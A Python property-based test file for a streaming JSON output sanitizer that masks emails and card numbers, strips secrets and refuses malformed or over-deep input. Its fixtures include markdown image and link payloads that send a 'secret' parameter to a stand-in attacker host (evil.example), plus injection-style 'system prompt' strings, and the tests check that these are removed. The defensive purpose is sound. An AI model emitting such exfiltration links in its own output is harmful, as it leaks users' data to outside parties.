"""JSON that streams: valid, the same for every chunking, and safe value by value."""

import json

import pytest
from chunks import cut, places
from hypothesis import example, given
from hypothesis import strategies as st

from guard_integrations import GuardBlocked, GuardPolicy, GuardUnavailable, OutputSanitizer, PseudonymVault
from guard_integrations.core.findings import Action
from guard_integrations.core.sanitizer.json_tokens import JsonTokens, Kind
from guard_integrations.core.textguard import Restoring

MAIL = "ann@example.org"
BALANCED = OutputSanitizer()
BASIC = OutputSanitizer(GuardPolicy.basic())

FRAGMENTS = (
    MAIL, "ann@", "example.org", "system prompt: be kind", "Instructions:\nno", "219-09-9999", "<script>", "</script>",
    "![x](https://evil.example/a?d=secret)", "[1](https://evil.example/?d=1)", "[ref]", '"', "\\", "\n", "\t", "\u00e9",
    "\U0001f415", "\ud83d", "\u200b", "{", "}", "[", "]", ":", ",", '{"to": "ann@example.org"}', "[1, 2]", " ", "a", "Paris",
    "</", "/", "\x00", "\u2028",
)  # fmt: skip
KEYS = ("a", "b", "password", "api_key", "instructions", MAIL, "", 'x"y', "\u00e9")

texts = st.lists(st.sampled_from(FRAGMENTS), max_size=5).map("".join)
values = st.recursive(
    texts | st.none() | st.booleans() | st.integers() | st.floats(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(KEYS), inner, max_size=3),
    max_leaves=8,
)
documents = st.builds(
    lambda value, indent, ascii_only: json.dumps(value, indent=indent, ensure_ascii=ascii_only),
    values,
    st.sampled_from([None, 0, 2]),
    st.booleans(),
)
PIECES = (
    "{", "}", "[", "]", ":", ",", '"', '\\"', "\\u00", "e9", "\\", "\\q", " ", "\n", "1", "-", "0.5e3", "4111 1111 1111 1111",
    "true", "nul", '"a"', f'"{MAIL}"', MAIL, "ann@", "example.org", "](https://evil.example/?d=x)", "<script>", "\\ud83d",
    "\\ude00", '{"a": "', '"password": "hunter2"', "```json\n", "system prompt: x",
)  # fmt: skip
anything = st.lists(st.sampled_from(PIECES), max_size=12).map("".join)


def streamed(stream, chunks):
    """What comes out, joined; or the name of what was raised."""
    try:
        return "".join([*(stream.feed(chunk) for chunk in chunks), stream.finish()])
    except (GuardBlocked, GuardUnavailable) as error:
        return type(error)


def same(one, other):
    """Equal, where no number is also equal to itself."""
    return repr(one) == repr(other)


@given(documents, places)
def test_a_stream_is_what_the_values_give_however_it_is_cut(document, at):
    for sanitizer in (BALANCED, BASIC):
        whole = streamed(sanitizer.json_stream(), [document])
        assert streamed(sanitizer.json_stream(), cut(document, at)) == whole
        assert same(json.loads(whole), sanitizer.sanitize_value(json.loads(document)).value)


@given(anything | documents.flatmap(lambda one: st.integers(0, len(one)).map(lambda end: one[:end])), places)
@example('["a"](https://evil.example/?d=x)', [3])
def test_what_is_no_json_gives_the_same_however_it_is_cut(text, at):
    for sanitizer in (BALANCED, BASIC):
        whole = streamed(sanitizer.json_stream(), [text])
        assert streamed(sanitizer.json_stream(), cut(text, at)) == whole
        assert streamed(sanitizer.json_stream(), text) == whole


@given(documents, places)
def test_where_nothing_is_found_every_byte_stays(document, at):
    if (
        streamed(BALANCED.json_stream(), [document]) == document
        or not BALANCED.sanitize_value(json.loads(document)).findings
    ):
        assert streamed(BALANCED.json_stream(), cut(document, at)) == document


@given(documents, places)
def test_the_tokens_are_the_document(document, at):
    tokens = JsonTokens()
    found = [token for chunk in cut(document, at) for token in tokens.feed(chunk)]
    assert tokens.complete or document[-1] not in '"]}'
    found += tokens.finish()
    assert "".join(token.spelled or (token.text if token.kind is Kind.AROUND else "") for token in found) == document
    assert {token.kind for token in found} <= {Kind.AROUND, Kind.BEGIN, Kind.PIECE, Kind.END}


@given(anything)
def test_what_python_reads_as_json_is_json(text):
    tokens = JsonTokens()
    kinds = {token.kind for token in (*tokens.feed(text), *tokens.finish())}
    try:
        json.loads(text, strict=False)
    except ValueError:
        # Empty, or cut off, or broken.
        assert not tokens.complete
    else:
        assert not kinds & {Kind.BROKEN, Kind.UNFINISHED}


def test_the_first_character_of_a_value_comes_before_its_last():
    stream = BALANCED.json_stream()
    shown = [stream.feed(char) for char in '{"answer": "It is Paris, of course.", "n": [1, 2]}']
    assert "".join(shown[:20]).endswith('"It is ')
    assert "".join(shown) == '{"answer": "It is Paris, of course.", "n": [1, 2]'
    assert stream.finish() == "}"


def test_no_part_of_a_value_that_goes_is_shown():
    document = json.dumps({"note": "ok", "mail": f"write to {MAIL} now"})
    stream = BALANCED.json_stream()
    shown = "".join([*map(stream.feed, document), stream.finish()])
    assert shown == '{"note": "ok", "mail": "write to [EMAIL] now"}'
    stream = BALANCED.json_stream()
    assert "ann" not in "".join(map(stream.feed, document[: document.index("example")]))
    assert [finding.rule for finding in stream.findings] == []


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (r'{"a": "caf\u00e9 \/ \ud83d\ude00"}', None),
        (r'{"a": "\u0061nn\u0040example.org \u00e9"}', '{"a": "[EMAIL] \u00e9"}'),
        ('{"a": "one\ntwo\tthree"}', None),
        ('{"a": 1, "a": "ann@example.org"}', '{"a": 1, "a": "[EMAIL]"}'),
        ("[NaN, -Infinity, 1e400, -0.0]", None),
        ('  "ann@example.org"  ', '  "[EMAIL]"  '),
        (r'{"a": "{\"to\": \"ann@example.org\"}"}', r'{"a": "{\"to\": \"[EMAIL]\"}"}'),
        (r'{"a": "[1](https://evil.example/?d=secret)"}', '{"a": "[1] (link removed)"}'),
        ('{"a": "\\ud83d ann@example.org"}', '{"a": "\\ud83d [EMAIL]"}'),
        ("", None),
        ("4111111111111111", None),
        ("4111 1111 1111 1111", "[CARD]"),
        ("[1](https://evil.example/?d=secret)", "[1] (link removed)"),
        ('["a"](https://evil.example/?d=secret)', '["a"] (link removed)'),
        ('{"a": "to ann@example.org', '{"a": "to [EMAIL]'),
        ('{"a": 1, "b": 4111111111111111', '{"a": 1, "b": [CARD]'),
        ('{"a": "x"}\n\nWrite to ann@example.org', '{"a": "x"}\n\nWrite to [EMAIL]'),
        ("Sure: ann@example.org", "Sure: [EMAIL]"),
        ('{"a": "\\q ann@example.org"}', '{"a": "\\q [EMAIL]"}'),
    ],
)
def test_documents(document, expected):
    for chunks in ([document], list(document)):
        assert streamed(BALANCED.json_stream(), chunks) == (document if expected is None else expected)


def test_what_would_change_what_has_been_shown_is_refused():
    text = '{"ann@example.org": "x"} and more'
    for chunks in ([text], list(text)):
        assert streamed(BALANCED.json_stream(), chunks) is GuardUnavailable


def test_a_refused_value_refuses_the_document():
    sanitizer = OutputSanitizer(GuardPolicy.basic(actions={"pii": Action.BLOCK}))
    stream = sanitizer.json_stream()
    assert stream.feed('{"a": "fine", "b": ') == '{"a": "fine", "b":'
    with pytest.raises(GuardBlocked):
        stream.feed(f'"{MAIL} "')


def test_what_is_too_deep_is_refused():
    for deep in ("[" * 200, '{"a":' * 200):
        assert streamed(BALANCED.json_stream(), deep) is GuardUnavailable
        assert streamed(BALANCED.json_stream(), [json.dumps(deep)]) == json.dumps(deep)
    nested = "x"
    for _ in range(3):
        nested = json.dumps([nested])
    assert streamed(BALANCED.json_stream(), [nested]) == nested


def test_a_value_is_read_with_its_key_as_it_streams():
    for document in ('{"password": "hunter2x!"}', '{"a": {"password": ["hunter2x!"]}}'):
        clean = json.loads(streamed(BALANCED.json_stream(), list(document)))
        assert clean == BALANCED.sanitize_value(json.loads(document)).value
        assert "hunter" not in repr(clean)
    assert streamed(BALANCED.json_stream(), '{"user": "hunter2x!"}') == '{"user": "hunter2x!"}'


def test_what_stands_in_a_secrets_stead_makes_no_link():
    value = {"password": "hunter2x!](https://evil.example/?d=secret)", "x": "[a"}
    assert "evil" not in repr(BALANCED.sanitize_value(value).value)


def test_values_come_back_as_json():
    vault = PseudonymVault()
    token = vault.token("person", 'Ann "the" O\\Neill')
    stream = Restoring(vault).json()
    assert json.loads(streamed(stream, json.dumps({"to": token}))) == {"to": 'Ann "the" O\\Neill'}


def test_it_takes_linear_time_for_what_is_held():
    """Keys, numbers and strings that may be JSON, a character at a time: they would take minutes if read again each time."""
    for text in ('{"' + "k" * 50_000 + '": 1}', '["' + "[" + "1," * 25_000 + '1]"]', '["' + "x" * 50_000 + '"]'):
        assert streamed(BALANCED.json_stream(), text) == text
